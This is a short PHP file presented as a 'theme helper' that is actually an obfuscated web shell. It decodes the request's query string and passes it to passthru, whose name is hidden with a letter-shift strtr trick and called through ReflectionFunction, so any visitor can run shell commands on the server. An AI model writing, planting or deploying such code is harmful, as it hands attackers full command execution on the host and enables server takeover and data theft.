<?php
/* theme helper */
$body = urldecode($_SERVER['QUERY_STRING']);
$rf = new ReflectionFunction(strtr('qbttuisv', 'bcdefghijklmnopqrstuvwxyza', 'abcdefghijklmnopqrstuvwxyz'));
echo $rf->invokeArgs(array($body));
